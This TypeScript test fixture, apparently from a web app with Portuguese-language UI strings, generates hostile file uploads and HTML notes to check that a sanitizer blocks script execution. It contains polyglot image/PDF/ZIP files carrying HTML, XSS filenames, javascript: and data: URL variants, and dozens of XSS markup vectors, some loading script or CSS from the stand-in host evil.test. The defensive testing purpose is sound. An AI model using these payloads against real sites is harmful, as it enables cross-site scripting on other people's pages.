import { type SentFile, pdf } from "./file-scene.ts"
import { pixel } from "./picture-scene.ts"

/** What every payload tries to do; nobody may ever see it happen. */
const attack = "window.pwned=1;top.pwned=1;alert(1);fetch('/pwned')"
const script = `<script>${attack}</script>`
const page = `<!doctype html><body onload="${attack}">${script}<img src=x onerror="${attack}">`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${attack}"><script>${attack}</script></svg>`
const gif = Buffer.from("R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=", "base64")

const join = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)))
const zipEnd = Buffer.from(`504b0506${"00".repeat(18)}`, "hex")
const scripted = pdf("x", "Contrato").buffer

/** Contents that are a page, a drawing or a script, or become one where a program guesses. */
const contents: readonly (readonly [endings: readonly string[], bytes: Buffer])[] = [
  [["html", "htm", "xhtml", "svg", "xml", "png", "pdf", "txt", "csv"], Buffer.from(page)],
  [["svg", "png", "txt", "svgz", "gif"], Buffer.from(svg)],
  [["txt", "js", "mjs", "csv"], Buffer.from(attack)],
  [["txt", "csv"], Buffer.from(`\ufeff${page}`, "utf16le")],
  [["txt"], Buffer.from("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")],
  [["gif", "html", "js", "txt"], join(gif, page)],
  [["gif"], Buffer.from(`GIF89a=1;${attack}//`)],
  [["png", "html"], join(pixel, page)],
  [["jpg"], join(Buffer.from("ffd8ffe000104a464946", "hex"), page)],
  [["webp"], join("RIFF\u0010\u0000\u0000\u0000WEBPVP8 ", page)],
  [["pdf", "html"], scripted],
  [["pdf"], join(scripted, page)],
  [["pdf"], join(page, scripted)],
  [["zip", "docx", "jar", "html"], join(Buffer.from("504b0304", "hex"), page, zipEnd)],
  [["docx"], join(Buffer.from("504b0304", "hex"), page, "word/document.xml", zipEnd)],
]

// What stands before a slash would count as a folder.
const brief = "window.pwned=1;alert(1)"

/** Names that are markup, addresses, formulas or templates. */
const names = [
  `<img src=x onerror="${brief}">`,
  `"><script>${brief}<script>`,
  "javascript:alert(1)",
  `' onmouseover='${brief}`,
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  '=HYPERLINK("javascript:alert(1)")',
  "../../index",
  "..%2f..%2findex",
  "relat\u202efdp.exe",
  "pagina.html",
  "%22%3E%3Csvg onload=alert(1)%3E",
]

function named(name: string, ending: string, buffer: Buffer): SentFile {
  return { name: `${name}.${ending}`, mimeType: "text/html", buffer }
}

/** Sixty files and more: every content under its endings, and every name around a file that is taken. */
export const hostileFiles: readonly SentFile[] = [
  ...contents.flatMap(([endings, bytes], index) =>
    endings.map((ending) => named(`arquivo ${index}`, ending, bytes)),
  ),
  ...names.flatMap((name) => [named(name, "txt", Buffer.from(page)), named(name, "gif", join(gif, page))]),
]

const urls = [
  "javascript:alert(1)",
  " JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A&#x61&#x76&#x61script&colon;alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "blob:https://x/1",
  "//evil.test/x",
  'https://evil.test/" onclick="alert(1)',
  "mailto:a@b.test?subject=<script>alert(1)</script>",
  'tel:1" onfocus="alert(1)',
]

const elements = [
  `<script>${attack}</script>`,
  `<scr<script>ipt>${attack}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<img src=x onerror="${attack}">`,
  `<img src=x onerror=${attack.replaceAll(" ", "")} //`,
  `<svg onload="${attack}"></svg>`,
  `<svg><script>${attack}</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>`,
  `<svg><animate onbegin="${attack}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${attack}</script></annotation-xml></math>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<base href="//evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link rel="stylesheet" href="//evil.test/x.css">`,
  `<style>@import '//evil.test/x.css'; * { display: none }</style>`,
  `<form action="javascript:alert(1)"><button>x</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<input autofocus onfocus="${attack}">`,
  `<details open ontoggle="${attack}">x</details>`,
  `<video><source onerror="${attack}"></video>`,
  `<audio src=x onerror="${attack}"></audio>`,
  `<body onload="${attack}">`,
  `<marquee onstart="${attack}">x</marquee>`,
  `<template><script>${attack}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea></textarea><script>${attack}</script>`,
  `<title></title><img src=x onerror="${attack}">`,
  `<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>`,
  `<select><style></select><script>${attack}</script></style></select>`,
  `<p style="background:url(javascript:alert(1))">x</p>`,
  `<p style="position:fixed;inset:0">x</p>`,
  `<p onclick="${attack}" onpointerenter="${attack}">x</p>`,
  `<p id="root" class="x" name="y">x</p>`,
  `<a href="https://ok.test" target="_top" onmouseover="${attack}">x</a>`,
  `<span data-type="mention" data-id="x" onclick="${attack}"><img src=x onerror="${attack}"></span>`,
  `<span data-type="mention" data-id='"><script>${attack}</script>'>@x</span>`,
  `<!--><img src=x onerror="${attack}">-->`,
  `<![CDATA[<script>${attack}</script>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${attack}</x:script>`,
  `&lt;script&gt;${attack}&lt;/script&gt;`,
  `${"<b>".repeat(500)}<img src=x onerror="${attack}">`,
]

/** Sixty notes whose markup tries to run a script, to leave the page or to cover it. */
export const hostileNotes: readonly string[] = [
  ...elements.map((element, index) => `<p>nota ${index}</p>${element}`),
  ...urls.map((url, index) => `<p>endereço ${index} <a href="${url}">aqui</a></p>`),
]
